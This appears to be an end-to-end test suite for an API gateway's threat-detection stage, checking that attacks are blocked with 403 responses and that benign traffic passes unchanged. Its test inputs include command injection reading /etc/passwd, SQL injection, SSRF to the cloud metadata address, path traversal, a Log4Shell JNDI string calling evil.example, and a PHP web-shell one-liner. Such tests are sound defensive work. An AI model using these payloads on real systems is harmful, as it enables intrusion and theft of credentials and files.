/**
 * Threat detection over real sockets: a blocked request gets 403 problem+json PCL_THREAT_DETECTED
 * (request id, no detail) and never reaches the upstream; the decision record carries detector,
 * field, score and a redacted excerpt; allowed requests reach the upstream byte for byte; detect mode
 * lets the request through and records what it would have blocked; route blocks replace the
 * defaults; exclusions, custom rules and the validate stage's parsed body work end to end.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { request } from 'undici';
import { startGateway, startUpstream, type TestGateway, type TestUpstream } from '../helpers/harness.ts';

describe('threat detection end to end', () => {
  let upstream: TestUpstream;
  let gw: TestGateway;
  let base: string;

  before(async () => {
    upstream = await startUpstream();
    gw = await startGateway(`
server:
  http: { host: 127.0.0.1, port: 0, redirectToHttps: false }
logging: { level: silent, accessLog: "off" }
defaults:
  threats:
    mode: block
    paranoia: 1
    exclude:
      - { route: cms-save, field: body.html, detectors: [xss, code] }
    rules:
      - { id: vp-legacy-export, field: query.format, equals: "xls;legacy" }
upstreams:
  backend: { targets: ["${upstream.url}"], timeout: 5s }
routes:
  - { name: cms-save, match: { path: /cms/save, methods: [POST] }, auth: public, upstream: backend }
  - name: shadowed
    match: { path: /shadow/* }
    auth: public
    upstream: backend
    threats: { mode: detect, paranoia: 1 }
  - name: unprotected
    match: { path: /raw/* }
    auth: public
    upstream: backend
    threats: { mode: off }
  - name: validated
    match: { path: /orders, methods: [POST] }
    auth: public
    upstream: backend
    validate: { body: { type: object, properties: { note: { type: string } } } }
  - { name: api, match: { path: /* }, auth: public, upstream: backend }
`);
    base = `http://127.0.0.1:${gw.httpPort}`;
  });
  after(async () => {
    await gw.close();
    await upstream.close();
  });

  const lastLog = () => gw.log[gw.log.length - 1];

  it('blocks an attack with 403 problem+json, the request id and no detail; the upstream sees nothing', async () => {
    const before = upstream.received.length;
    const res = await request(`${base}/api/search?q=%3Bcat%20%2Fetc%2Fpasswd`);
    const body = (await res.body.json()) as Record<string, unknown>;
    assert.equal(res.statusCode, 403);
    assert.match(String(res.headers['content-type']), /^application\/problem\+json/);
    assert.equal(body.code, 'PCL_THREAT_DETECTED');
    assert.equal(body.requestId, res.headers['x-request-id']);
    assert.doesNotMatch(JSON.stringify(body), /rce|passwd|query\.q/);
    assert.equal(upstream.received.length, before);
    const entry = lastLog();
    assert.equal(entry?.code, 'PCL_THREAT_DETECTED');
    const d = entry?.decisions.find((x) => x.stage === 'threats');
    assert.equal(d?.decision, 'deny');
    assert.match(d?.detail ?? '', /^threat score \d+\/5: (?:lfi|rce)\.[a-z-]+ at query\.q \+5 ".*cat \/etc\/passwd.*"/);
  });

  it('blocks an attack in a JSON body and redacts the excerpt of a secret field', async () => {
    const res = await request(`${base}/api/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ user: 'bob', password: "x' OR 1=1; cat /etc/passwd" }),
    });
    await res.body.dump();
    assert.equal(res.statusCode, 403);
    const d = lastLog()?.decisions.find((x) => x.stage === 'threats');
    assert.match(d?.detail ?? '', /at body\.password \+\d+ "\[redacted\]"/);
    assert.doesNotMatch(d?.detail ?? '', /etc\/passwd/);
  });

  it('lets a benign request through byte for byte', async () => {
    const payload = Buffer.from(JSON.stringify({ name: "Seán O'Brien", comment: "Don't select the drop-down; I'll update my order later. See https://example.com/help?x=1 & thanks!", n: 42 }));
    const before = upstream.received.length;
    const res = await request(`${base}/api/comments?page=2&q=rock+%26+roll`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', referer: 'https://www.google.com/', cookie: 'sid=abc; theme=dark' },
      body: payload,
    });
    await res.body.dump();
    assert.equal(res.statusCode, 200);
    const got = upstream.received[before];
    assert.ok(got !== undefined);
    assert.deepEqual(got.body, payload);
    assert.equal(got.url, '/api/comments?page=2&q=rock+%26+roll');
    assert.equal(lastLog()?.decisions.find((x) => x.stage === 'threats')?.decision, 'allow');
  });

  it('detect mode lets the attack through and records a shadow-deny', async () => {
    const before = upstream.received.length;
    const res = await request(`${base}/shadow/x?u=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data`);
    await res.body.dump();
    assert.equal(res.statusCode, 200);
    assert.equal(upstream.received.length, before + 1);
    const d = lastLog()?.decisions.find((x) => x.stage === 'threats');
    assert.equal(d?.decision, 'shadow-deny');
    assert.equal(d?.code, 'PCL_THREAT_DETECTED');
    assert.match(d?.detail ?? '', /ssrf\.metadata at query\.u/);
  });

  it("a route's own block replaces the defaults: mode off inspects nothing", async () => {
    const res = await request(`${base}/raw/x?f=..%2F..%2Fetc%2Fpasswd`);
    await res.body.dump();
    assert.equal(res.statusCode, 200);
    assert.equal(lastLog()?.decisions.some((x) => x.stage === 'threats'), false);
  });

  it('an exclusion of defaults.threats fixes a false positive on one route and field only', async () => {
    const html = JSON.stringify({ html: '<p>Hello {{ user.name | upper }}</p><script>track()</script>', title: 'ok' });
    const ok = await request(`${base}/cms/save`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: html });
    await ok.body.dump();
    assert.equal(ok.statusCode, 200);
    const other = await request(`${base}/api/save`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: html });
    await other.body.dump();
    assert.equal(other.statusCode, 403);
    const elsewhere = await request(`${base}/cms/save`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ html: 'x', title: '{{7*7}}' }) });
    await elsewhere.body.dump();
    assert.equal(elsewhere.statusCode, 403);
  });

  it('a custom rule blocks (virtual patch), also through an encoding', async () => {
    const res = await request(`${base}/api/export?format=XLS%253Blegacy`);
    await res.body.dump();
    assert.equal(res.statusCode, 403);
    assert.match(lastLog()?.decisions.find((x) => x.stage === 'threats')?.detail ?? '', /vp-legacy-export at query\.format/);
  });

  it('after validate: inspects the body it parsed', async () => {
    const before = upstream.received.length;
    const res = await request(`${base}/orders`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ note: '${jndi:ldap://evil.example/a}' }) });
    await res.body.dump();
    assert.equal(res.statusCode, 403);
    assert.equal(upstream.received.length, before);
    assert.deepEqual(lastLog()?.decisions.map((x) => x.stage), ['validate', 'threats']);
  });

  it('a scanner User-Agent is blocked', async () => {
    const res = await request(`${base}/api/x`, { headers: { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' } });
    await res.body.dump();
    assert.equal(res.statusCode, 403);
  });

  it('a multipart upload of a PHP file is blocked by its file name', async () => {
    const body = '--b0undary\r\nContent-Disposition: form-data; name="avatar"; filename="avatar.php"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n--b0undary--\r\n';
    const res = await request(`${base}/api/upload`, { method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=b0undary' }, body });
    await res.body.dump();
    assert.equal(res.statusCode, 403);
    assert.match(lastLog()?.decisions.find((x) => x.stage === 'threats')?.detail ?? '', /php\.script-upload at body\.avatar/);
  });

  it('multipart upload rules read the parsed file name: filename* is decoded, a field that quotes a header is not a file', async () => {
    const encoded = "--b0undary\r\nContent-Disposition: form-data; name=\"avatar\"; filename*=UTF-8''shell%2Ephp\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n--b0undary--\r\n";
    const res = await request(`${base}/api/upload`, { method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=b0undary' }, body: encoded });
    await res.body.dump();
    assert.equal(res.statusCode, 403);
    assert.match(lastLog()?.decisions.find((x) => x.stage === 'threats')?.detail ?? '', /php\.script-upload at body\.avatar/);
    const quoting = '--b0undary\r\nContent-Disposition: form-data; name="comment"\r\n\r\nour docs say: content-disposition: form-data; name="a"; filename="a.php" is rejected\r\n--b0undary--\r\n';
    const ok = await request(`${base}/api/upload`, { method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=b0undary' }, body: quoting });
    await ok.body.dump();
    assert.equal(ok.statusCode, 200);
  });

  it('after validate parsed a multipart body: a text file part is still inspected (validate keeps only its name)', async () => {
    const before = upstream.received.length;
    const body = '--b0undary\r\nContent-Disposition: form-data; name="attachment"; filename="notes.txt"\r\nContent-Type: text/plain\r\n\r\n<?php system($_GET["c"]); ?>\r\n--b0undary--\r\n';
    const res = await request(`${base}/orders`, { method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=b0undary' }, body });
    await res.body.dump();
    assert.equal(res.statusCode, 403);
    assert.equal(upstream.received.length, before);
    assert.deepEqual(lastLog()?.decisions.map((x) => x.stage), ['validate', 'threats']);
    assert.match(lastLog()?.decisions.find((x) => x.stage === 'threats')?.detail ?? '', /at body\.attachment\.content/);
  });
});
